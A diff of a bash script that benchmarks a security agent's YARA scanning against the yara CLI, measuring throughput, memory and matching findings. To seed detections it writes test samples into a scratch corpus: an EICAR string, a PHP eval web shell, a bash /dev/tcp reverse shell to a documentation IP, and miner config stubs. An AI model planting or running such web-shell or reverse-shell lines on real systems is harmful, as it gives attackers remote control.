@@ -1,35 +1,55 @@
 #!/usr/bin/env bash
-# YARA benchmark: `haidang-agent scan --yara rules/yara --json DIR` against the `yara` CLI
-# (Debian package yara, libyara) with the same rule files on the same generated corpus, in the
-# same run, page cache warm, alternating the two tools. Wall time, CPU time and peak RSS come
-# from /usr/bin/time -v; MB/s is corpus bytes over wall time. The issue's goal is >= 1.5x the
-# yara CLI's throughput, with agent RSS <= 100 MB.
+# YARA benchmark: `haidang-agent scan --yara RULES --json DIR` against the `yara` CLI (Debian
+# package yara, libyara) with the same rule files on the same corpus, in the same run, page
+# cache warm, alternating the two tools, at equal thread counts (1, then all cores). Wall
+# time, CPU time and peak RSS come from /usr/bin/time -v; MB/s is corpus bytes (10^6) over
+# wall time. The issue's goal is >= 1.5x the yara CLI's throughput, with agent RSS <= 100 MB.
 #
 #   scripts/bench-yara.sh                # as root the first time: installs yara and time
+#   YARA_BENCH_RULES=/work/tools/signature-base/yara scripts/bench-yara.sh
 #
 # Environment (all optional):
+#   YARA_BENCH_RULES  a directory of *.yar files, read-only       (default rules/yara)
 #   YARA_BENCH_WORK   scratch directory, emptied first            (default /tmp/yarabench)
 #   YARA_BENCH_MB     approximate corpus size in MB                (default 512)
-#   RUNS              timed runs per tool                          (default 3)
-#   THREADS           yara -p threads (haidang-agent uses all cores) (default: nproc)
+#   HAIDANG_AGENT     a release haidang-agent binary to use instead of building one
+#   YARA_BENCH_REUSE  1: keep the corpus of an earlier run in YARA_BENCH_WORK
+#   RUNS              timed runs per tool and thread count        (default 3)
+#   QUIET_LOAD        before each timed run, wait (up to QUIET_WAIT seconds, default 120) for
+#                     the 1-minute load average to fall below this (default: cores / 2); each
+#                     row records the load it started with
 #   CARGO_TARGET_DIR  where the release binary is built           (default ~/.cache/haidang/target)
 #
+# The rules: every *.yar file of YARA_BENCH_RULES that the yara CLI compiles (yarac, with the
+# external variables defined) and that imports no module the agent is built without, copied
+# to $WORK/rules; both tools get exactly those files, each file in its own namespace (the
+# agent's loader does that; yara gets NAMESPACE:FILE). The yara CLI cannot set the external
+# variables (filename, filepath, extension, filetype, owner) per file, so it gets them all as
+# the string "unset" (-d); the agent sets them per file.
+#
 # The corpus: real ELF executables and libraries (/usr/bin, /usr/lib), text and documentation
-# (/usr/share), and planted samples (EICAR, web shell, reverse shell, miner). The yara CLI cannot set the
-# external variables per file, so it gets them all as the string "unset" (-d); the findings of
-# the two tools are compared on the rules that do not test externals, and the script exits
-# non-zero when they differ. Prints a Markdown table, also written to $WORK/results.md.
+# (/usr/share), no two files with the same content (the agent skips content it has seen by
+# hash; yara does not, so duplicates would flatter the agent), and planted samples (EICAR,
+# web shell, reverse shell, miner). Threads: the agent sizes its pool from the CPU affinity
+# mask, so `taskset -c 0` gives it one thread, against `yara -p 1` on the same CPU.
+#
+# The findings of the two tools are compared on the rules whose file does not mention an
+# external variable; differences are listed, not hidden. Prints a Markdown summary, also
+# written to $WORK/results.md.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
+RULES_SRC=${YARA_BENCH_RULES:-rules/yara}
 WORK=${YARA_BENCH_WORK:-/tmp/yarabench}
 MB=${YARA_BENCH_MB:-512}
 RUNS=${RUNS:-3}
-THREADS=${THREADS:-$(nproc)}
+QUIET_LOAD=${QUIET_LOAD:-$(awk -v n="$(nproc)" 'BEGIN {print n / 2}')}
+QUIET_WAIT=${QUIET_WAIT:-120}
+CORES=$(nproc)
 export CARGO_TARGET_DIR=${CARGO_TARGET_DIR:-$HOME/.cache/haidang/target}
-RULES=rules/yara
-# Rules whose conditions test external variables, which the yara CLI cannot set per file.
-EXTERNAL_RULES='php_webshell_encoded_loader|php_in_image'
+EXTERNALS=(filename filepath extension filetype owner)
+# Modules yara-x has and the agent is not built with (agent/src/scan/rules.rs).
+MODULES_NOT_BUILT='crx|cuckoo|dex|lnk|macho|magic|msi|olecf|vba|vt|zip'
 
 say() { printf '\n== %s\n' "$*" >&2; }
 
@@ -37,6 +57,7 @@ need_apt=()
 command -v yara >/dev/null || need_apt+=(yara)
 [ -x /usr/bin/time ] || need_apt+=(time)
 command -v jq >/dev/null || need_apt+=(jq)
+command -v taskset >/dev/null || need_apt+=(util-linux)
 if [ ${#need_apt[@]} -gt 0 ]; then
     say "installing ${need_apt[*]}"
     [ "$(id -u)" = 0 ] || { echo "error: run as root to install ${need_apt[*]}" >&2; exit 2; }
@@ -44,99 +65,184 @@ if [ ${#need_apt[@]} -gt 0 ]; then
     DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need_apt[@]}" >/dev/null
 fi
 
-say "building haidang-agent (release)"
-cargo build --release -p haidang-agent >&2
-AGENT=$CARGO_TARGET_DIR/release/haidang-agent
+if [ -n "${HAIDANG_AGENT:-}" ]; then
+    AGENT=$(realpath "$HAIDANG_AGENT")
+else
+    say "building haidang-agent (release)"
+    cargo build --release -p haidang-agent >&2
+    AGENT=$CARGO_TARGET_DIR/release/haidang-agent
+fi
+RULES_SRC=$(realpath "$RULES_SRC")
 
-say "generating a ~${MB} MB corpus in $WORK/corpus"
-rm -rf "$WORK"
-mkdir -p "$WORK/corpus/bin" "$WORK/corpus/lib" "$WORK/corpus/text" "$WORK/corpus/planted" "$WORK/runs"
-# Copy regular files (no links) up to a byte budget per kind: 40% executables, 30% libraries,
-# 30% text.
-copy_budget() { # SRC DEST BYTES
-    local src=$1 dest=$2 budget=$3 total=0 n=0
-    while IFS= read -r -d '' f; do
-        size=$(stat -c %s "$f")
-        [ "$size" -gt 0 ] && [ "$size" -le 67108864 ] || continue
-        cp "$f" "$dest/$n-$(basename "$f")" 2>/dev/null || continue
-        total=$((total + size)); n=$((n + 1))
-        [ "$total" -lt "$budget" ] || break
-    done < <(find "$src" -xdev -type f -readable -print0 2>/dev/null)
-}
-copy_budget /usr/bin "$WORK/corpus/bin" $((MB * 1024 * 1024 * 4 / 10))
-copy_budget /usr/lib "$WORK/corpus/lib" $((MB * 1024 * 1024 * 3 / 10))
-copy_budget /usr/share "$WORK/corpus/text" $((MB * 1024 * 1024 * 3 / 10))
-# Planted samples, built here so this script is not itself a sample.
-P=$WORK/corpus/planted
-printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!H+H*' >"$P/eicar.com"
-printf '<?php @eval($_POST["x"]); ?>\n' >"$P/up.php"
-printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' >"$P/rs.sh"
-printf '{"pools": [{"url": "stratum+tcp://pool.example.org:443", "user": "4Abc"}]}\n' >"$P/config.json"
-{ printf '\177ELF\002\001\001\000'; head -c 4096 /dev/urandom; printf 'stratum+tcp://pool.example.org:3333\000--donate-level\000'; } >"$P/xmr"
-CORPUS_BYTES=$(du -sb "$WORK/corpus" | cut -f1)
-CORPUS_FILES=$(find "$WORK/corpus" -type f | wc -l)
-say "corpus: $CORPUS_FILES files, $((CORPUS_BYTES / 1048576)) MiB"
+REUSE=0
+if [ "${YARA_BENCH_REUSE:-0}" = 1 ] && [ -d "$WORK/corpus/planted" ]; then
+    REUSE=1
+    find "$WORK" -mindepth 1 -maxdepth 1 ! -name corpus -exec rm -rf {} +
+else
+    rm -rf "$WORK"
+fi
+mkdir -p "$WORK/corpus/bin" "$WORK/corpus/lib" "$WORK/corpus/text" "$WORK/corpus/planted" "$WORK/runs" \
+    "$WORK/rules" "$WORK/empty"
 
-# Each tool as one command line, so /usr/bin/time measures the tool itself.
-agent_cmd=("$AGENT" scan --yara "$RULES" --json "$WORK/corpus")
-yara_cmd=(yara -r -p "$THREADS" -d filename=unset -d filepath=unset -d extension=unset -d filetype=unset -d owner=unset "$RULES"/*.yar "$WORK/corpus")
-# Runs a tool under /usr/bin/time and checks its exit status: the agent exits 1 (the planted
-# samples are findings), yara 0.
-timed() { # TOOL OUT
-    local tool=$1 out=$2 expect=0 cmd
-    if [ "$tool" = agent ]; then cmd=("${agent_cmd[@]}"); expect=1; else cmd=("${yara_cmd[@]}"); fi
-    /usr/bin/time -v -o "$out.time" "${cmd[@]}" >"$out.out" 2>"$out.err" || true
-    local status
-    status=$(grep -F 'Exit status' "$out.time" | sed 's/.*: //')
-    if [ "$status" != "$expect" ]; then
-        echo "error: $tool exited $status (expected $expect); see $out.err" >&2
-        exit 2
+say "selecting rule files from $RULES_SRC"
+DEFINES=()
+for name in "${EXTERNALS[@]}"; do DEFINES+=(-d "$name=unset"); done
+skipped=0
+while IFS= read -r -d '' f; do
+    if grep -Eq "import \"($MODULES_NOT_BUILT)\"" "$f" || ! yarac "${DEFINES[@]}" "$f" "$WORK/check.yarc" 2>>"$WORK/yarac.err"; then
+        skipped=$((skipped + 1))
+        continue
     fi
-}
+    cp "$f" "$WORK/rules/$(basename "$f")"
+done < <(find "$RULES_SRC" -maxdepth 1 -type f \( -name '*.yar' -o -name '*.yara' \) -print0 | LC_ALL=C sort -z)
+RULE_FILES=$(find "$WORK/rules" -type f | wc -l)
+RULE_COUNT=$(cat "$WORK"/rules/* | grep -cE '^\s*((private|global)\s+)*rule\s' || true)
+say "$RULE_FILES rule files ($RULE_COUNT rules), $skipped left out"
+YARA_RULE_ARGS=()
+for f in "$WORK"/rules/*; do
+    b=$(basename "$f")
+    YARA_RULE_ARGS+=("${b%.*}:$f")
+done
 
-say "warming the page cache (one untimed run of each)"
-timed agent "$WORK/runs/warm-agent"
-timed yara "$WORK/runs/warm-yara"
+if [ "$REUSE" = 1 ]; then
+    say "reusing the corpus in $WORK/corpus"
+else
+    say "generating a ~${MB} MB corpus in $WORK/corpus"
+    # Copy regular files (no links), each content once, up to a byte budget per kind: 40%
+    # executables, 30% libraries, 30% text.
+    declare -A SEEN=()
+    copy_budget() { # SRC DEST BYTES
+        local src=$1 dest=$2 budget=$3 total=0 n=0 size sum
+        while IFS= read -r -d '' f; do
+            size=$(stat -c %s "$f")
+            [ "$size" -gt 0 ] && [ "$size" -le 67108864 ] || continue
+            sum=$(md5sum <"$f" | cut -c1-32) || continue
+            [ -z "${SEEN[$sum]:-}" ] || continue
+            SEEN[$sum]=1
+            cp "$f" "$dest/$n-$(basename "$f")" 2>/dev/null || continue
+            total=$((total + size)); n=$((n + 1))
+            [ "$total" -lt "$budget" ] || break
+        done < <(find "$src" -xdev -type f -readable -print0 2>/dev/null | LC_ALL=C sort -z)
+    }
+    copy_budget /usr/bin "$WORK/corpus/bin" $((MB * 1000000 * 4 / 10))
+    copy_budget /usr/lib "$WORK/corpus/lib" $((MB * 1000000 * 3 / 10))
+    copy_budget /usr/share "$WORK/corpus/text" $((MB * 1000000 * 3 / 10))
+    # Planted samples, built here so this script is not itself a sample.
+    P=$WORK/corpus/planted
+    printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!H+H*' >"$P/eicar.com"
+    printf '<?php @eval($_POST["x"]); ?>\n' >"$P/up.php"
+    printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' >"$P/rs.sh"
+    printf '{"pools": [{"url": "stratum+tcp://pool.example.org:443", "user": "4Abc"}]}\n' >"$P/config.json"
+    { printf '\177ELF\002\001\001\000'; head -c 4096 /dev/zero | tr '\0' 'A'; printf 'stratum+tcp://pool.example.org:3333\000--donate-level\000'; } >"$P/xmr"
+fi
+CORPUS_BYTES=$(find "$WORK/corpus" -type f -printf '%s\n' | awk '{s += $1} END {print s}')
+CORPUS_FILES=$(find "$WORK/corpus" -type f | wc -l)
+say "corpus: $CORPUS_FILES files, $((CORPUS_BYTES / 1000000)) MB"
 
+# timed LABEL NAME CMD... : runs CMD under /usr/bin/time -v once the machine is quiet enough;
+# appends label, wall, user, sys, peak RSS KiB, load, exit status and output lines. The agent
+# exits 1 on findings, yara 0; anything else (2: error) stops the script.
 ROWS=$WORK/rows.tsv
 : >"$ROWS"
-field() { grep -F "$1" "$2" | head -1 | sed 's/.*: //'; }
-seconds() { # h:mm:ss or m:ss.cc -> seconds
-    awk -F: '{ s = 0; for (i = 1; i <= NF; i++) s = s * 60 + $i; print s }' <<<"$1"
+timed() {
+    local label=$1 name=$2
+    shift 2
+    local waited=0
+    while awk -v q="$QUIET_LOAD" '{exit !($1 >= q)}' /proc/loadavg && [ "$waited" -lt "$QUIET_WAIT" ]; do
+        sleep 5
+        waited=$((waited + 5))
+    done
+    local load rc=0
+    load=$(cut -d' ' -f1 /proc/loadavg)
+    /usr/bin/time -v -o "$WORK/runs/$name.time" "$@" >"$WORK/runs/$name.out" 2>"$WORK/runs/$name.err" || rc=$?
+    if [ "$rc" -gt 1 ]; then
+        echo "error: $label exited $rc; see $WORK/runs/$name.err" >&2
+        exit 2
+    fi
+    local wall user sys rss lines
+    wall=$(awk -F': ' '/Elapsed \(wall clock\)/ {n = split($2, t, ":"); s = 0; for (i = 1; i <= n; i++) s = s * 60 + t[i]; print s}' "$WORK/runs/$name.time")
+    user=$(awk -F': ' '/User time/ {print $2}' "$WORK/runs/$name.time")
+    sys=$(awk -F': ' '/System time/ {print $2}' "$WORK/runs/$name.time")
+    rss=$(awk -F': ' '/Maximum resident set size/ {print $2}' "$WORK/runs/$name.time")
+    lines=$(wc -l <"$WORK/runs/$name.out")
+    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$label" "$wall" "$user" "$sys" "$rss" "$load" "$rc" "$lines" >>"$ROWS"
+    printf '%-34s wall %7.2f s  user %7.2f s  sys %5.2f s  RSS %7d KiB  %6d lines  (load %s, exit %s)\n' \
+        "$label" "$wall" "$user" "$sys" "$rss" "$lines" "$load" "$rc" >&2
 }
-for run in $(seq 1 "$RUNS"); do
-    for tool in agent yara; do
-        out=$WORK/runs/$tool-$run
-        say "run $run: $tool"
-        timed "$tool" "$out"
-        wall=$(seconds "$(field 'Elapsed (wall clock) time' "$out.time")")
-        cpu=$(awk -v u="$(field 'User time' "$out.time")" -v s="$(field 'System time' "$out.time")" 'BEGIN { print u + s }')
-        rss=$(field 'Maximum resident set size' "$out.time")
-        printf '%s\t%s\t%s\t%s\t%s\n' "$tool" "$run" "$wall" "$cpu" "$rss" >>"$ROWS"
+
+say "warming the page cache"
+find "$WORK/corpus" -type f -print0 | xargs -0 cat >/dev/null
+
+say "rule loading alone (an empty directory)"
+timed "agent, rules only" agent-load "$AGENT" scan --yara "$WORK/rules" --json "$WORK/empty"
+timed "yara, rules only" yara-load yara -r "${DEFINES[@]}" "${YARA_RULE_ARGS[@]}" "$WORK/empty"
+
+say "timed runs ($RUNS each, alternating)"
+for threads in 1 "$CORES"; do
+    cpus=$(seq -s, 0 $((threads - 1)))
+    for run in $(seq 1 "$RUNS"); do
+        timed "haidang-agent scan, $threads thr" "agent-$threads-$run" \
+            taskset -c "$cpus" "$AGENT" scan --yara "$WORK/rules" --json "$WORK/corpus"
+        timed "yara -r -p $threads" "yara-$threads-$run" \
+            taskset -c "$cpus" yara -r -p "$threads" "${DEFINES[@]}" "${YARA_RULE_ARGS[@]}" "$WORK/corpus"
     done
 done
 
-say "comparing findings (rules that do not test external variables)"
-jq -r 'select(.kind == "malware") | "\(.rule) \(.path)"' "$WORK/runs/agent-1.out" | grep -Ev "^($EXTERNAL_RULES) " | sort >"$WORK/agent-findings.txt"
-grep -Ev "^($EXTERNAL_RULES) " "$WORK/runs/yara-1.out" | sort >"$WORK/yara-findings.txt" || true
-same=yes
-diff -u "$WORK/yara-findings.txt" "$WORK/agent-findings.txt" >"$WORK/findings.diff" || same=no
+say "comparing findings"
+# Rules of files that mention an external variable: the tools see different values there.
+python3 - "$WORK/rules" >"$WORK/external-rules.txt" <<'PY'
+import os, re, sys
+root = sys.argv[1]
+for name in sorted(os.listdir(root)):
+    src = open(os.path.join(root, name), encoding="utf-8", errors="replace").read()
+    if re.search(r"\b(filename|filepath|extension|filetype|owner)\b", src):
+        for rule in re.findall(r"^\s*(?:(?:private|global)\s+)*rule\s+(\w+)", src, re.M):
+            print(rule)
+PY
+jq -r 'select(.kind == "malware") | "\(.rule) \(.path)"' "$WORK/runs/agent-$CORES-1.out" | sort -u >"$WORK/agent-all.txt"
+sort -u "$WORK/runs/yara-$CORES-1.out" >"$WORK/yara-all.txt"
+grep -vwFf "$WORK/external-rules.txt" "$WORK/agent-all.txt" >"$WORK/agent-findings.txt" || true
+grep -vwFf "$WORK/external-rules.txt" "$WORK/yara-all.txt" >"$WORK/yara-findings.txt" || true
+diff "$WORK/yara-findings.txt" "$WORK/agent-findings.txt" >"$WORK/findings.diff" || true
+ONLY_YARA=$(grep -c '^<' "$WORK/findings.diff" || true)
+ONLY_AGENT=$(grep -c '^>' "$WORK/findings.diff" || true)
+AGENT_RULES=$(grep -oE '[0-9]+ YARA rules from [0-9]+ files' "$WORK/runs/agent-load.err" | head -1 || true)
+AGENT_PROBLEMS=$(grep -c '^warning: YARA rule not loaded' "$WORK/runs/agent-load.err" || true)
 
 RESULTS=$WORK/results.md
+CPU_MODEL=$(lscpu | awk -F': +' '/^Model name/ {print $2; exit}')
+python3 - "$ROWS" "$CORPUS_BYTES" "$CORES" >"$WORK/summary.md" <<'PY'
+import statistics, sys
+rows_f, size, cores = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+rows = [l.rstrip("\n").split("\t") for l in open(rows_f) if l.strip()]
+mb = size / 1e6
+p = print
+p("| run | wall s | user s | sys s | CPU s | MB/s (wall) | peak RSS MiB | findings | load avg before |")
+p("|---|---:|---:|---:|---:|---:|---:|---:|---:|")
+for label, wall, user, sys_, rss, load, rc, lines in rows:
+    cpu = float(user) + float(sys_)
+    rate = f"{mb / float(wall):.1f}" if "rules only" not in label else "–"
+    p(f"| {label} | {float(wall):.2f} | {float(user):.2f} | {float(sys_):.2f} | {cpu:.2f} | {rate} | {int(rss) / 1024:.0f} | {int(lines):,} | {load} |")
+def med(label, col):
+    v = [float(r[1]) if col == "wall" else float(r[2]) + float(r[3]) for r in rows if r[0] == label]
+    return statistics.median(v)
+def rss(label):
+    return max(int(r[4]) for r in rows if r[0] == label) / 1024
+p("")
+for t in ["1", cores]:
+    a, y = f"haidang-agent scan, {t} thr", f"yara -r -p {t}"
+    p(f"- **{t} thread{'s' if t != '1' else ''}**: median wall haidang-agent {med(a, 'wall'):.2f} s ({mb / med(a, 'wall'):.1f} MB/s), "
+      f"yara {med(y, 'wall'):.2f} s ({mb / med(y, 'wall'):.1f} MB/s): **{med(y, 'wall') / med(a, 'wall'):.2f}×** yara's throughput "
+      f"(goal ≥ 1.5×); CPU {med(a, 'cpu'):.2f} s vs {med(y, 'cpu'):.2f} s; peak RSS {rss(a):.0f} MiB vs {rss(y):.0f} MiB")
+la, ly = "agent, rules only", "yara, rules only"
+p(f"- rule loading alone: haidang-agent {med(la, 'wall'):.2f} s wall / {rss(la):.0f} MiB, yara {med(ly, 'wall'):.2f} s / {rss(ly):.0f} MiB "
+  f"(included in every run above); scan alone (wall minus loading), {cores} threads: haidang-agent "
+  f"{mb / (med(f'haidang-agent scan, {cores} thr', 'wall') - med(la, 'wall')):.1f} MB/s, yara "
+  f"{mb / (med(f'yara -r -p {cores}', 'wall') - med(ly, 'wall')):.1f} MB/s")
+PY
 {
-    echo "YARA scan, $CORPUS_FILES files, $((CORPUS_BYTES / 1048576)) MiB, $(ls "$RULES"/*.yar | wc -l) rule files, $(nproc) cores, page cache warm"
+    echo "YARA scan: $CORPUS_FILES files, $((CORPUS_BYTES / 1000000)) MB (distinct contents); rules: $RULE_FILES files, $RULE_COUNT rules from $RULES_SRC ($skipped files left out); agent loaded: ${AGENT_RULES:-?}, $AGENT_PROBLEMS rules or files not loaded (see $WORK/runs/agent-load.err). Machine: $CORES cores ($CPU_MODEL), Linux $(uname -r); $(yara --version | sed 's/^/yara /'); page cache warm."
     echo
-    echo "| tool | run | wall s | CPU s | MB/s | peak RSS MB |"
-    echo "|---|---|---|---|---|---|"
-    awk -F'\t' -v bytes="$CORPUS_BYTES" '{ printf "| %s | %s | %.2f | %.2f | %.1f | %.1f |\n", ($1 == "agent" ? "haidang-agent scan" : "yara -r -p '"$THREADS"'"), $2, $3, $4, bytes / 1e6 / $3, $5 / 1024 }' "$ROWS"
-    echo
-    awk -F'\t' -v bytes="$CORPUS_BYTES" '
-        { wall[$1] += $3; n[$1]++ }
-        END {
-            a = bytes / 1e6 / (wall["agent"] / n["agent"]); y = bytes / 1e6 / (wall["yara"] / n["yara"])
-            printf "mean throughput: haidang-agent %.1f MB/s, yara %.1f MB/s, ratio %.2fx (goal >= 1.5x)\n", a, y, a / y
-        }' "$ROWS"
-    echo
-    echo "same findings on rules without externals: $same ($(wc -l <"$WORK/agent-findings.txt") findings; diff in $WORK/findings.diff)"
+    cat "$WORK/summary.md"
+    echo "- findings ($CORES-thread run 1), rules whose file mentions no external variable: yara $(wc -l <"$WORK/yara-findings.txt"), haidang-agent $(wc -l <"$WORK/agent-findings.txt"); only in yara: $ONLY_YARA, only in haidang-agent: $ONLY_AGENT (diff in $WORK/findings.diff). All rules: yara $(wc -l <"$WORK/yara-all.txt"), haidang-agent $(wc -l <"$WORK/agent-all.txt")."
 } | tee "$RESULTS"
-[ "$same" = yes ]
